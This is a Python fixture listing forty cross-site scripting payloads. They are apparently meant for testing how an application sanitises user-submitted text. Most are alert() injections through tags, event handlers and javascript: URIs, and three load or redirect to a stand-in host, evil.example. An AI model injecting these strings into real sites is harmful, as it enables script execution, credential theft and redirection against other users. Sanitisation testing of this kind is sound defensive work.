"""Forty ways to smuggle a script into a name: written into every text that others send us."""

PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(2)</sCrIpT>", "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>", "<svg><script>alert(5)</script></svg>", '"><script>alert(6)</script>',
    "'><script>alert(7)</script>", '" onmouseover=alert(8) x="', "' onfocus=alert(9) autofocus='",
    "javascript:alert(10)", "JaVaScRiPt:alert(11)", "java&#9;script:alert(12)",
    "data:text/html,<script>alert(13)</script>", "</title><script>alert(14)</script>",
    "</textarea><script>alert(15)</script>", "</select><script>alert(16)</script>",
    "</style><script>alert(17)</script>", "<!--><script>alert(18)</script>-->",
    "<iframe srcdoc='<script>alert(19)</script>'>", "<iframe src=javascript:alert(20)>",
    "<object data=javascript:alert(21)>", "<embed src=javascript:alert(22)>",
    "<math><mi//xlink:href='data:x,<script>alert(23)</script>'>", "<a href=javascript:alert(24)>x",
    "<form action=javascript:alert(25)><input type=submit>", "<body onload=alert(26)>",
    "<details open ontoggle=alert(27)>", "<video><source onerror=alert(28)>",
    "<input onfocus=alert(29) autofocus>", "<marquee onstart=alert(30)>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "&lt;script&gt;alert(34)&lt;/script&gt;",
    "{{constructor.constructor('alert(35)')()}}", "${alert(36)}", "<%= alert(37) %>",
    "\u003cscript\u003ealert(38)\u003c/script\u003e", "<script\u00a0>alert(39)</script\u00a0>",
    '=HYPERLINK("javascript:alert(40)")',
)  # fmt: skip
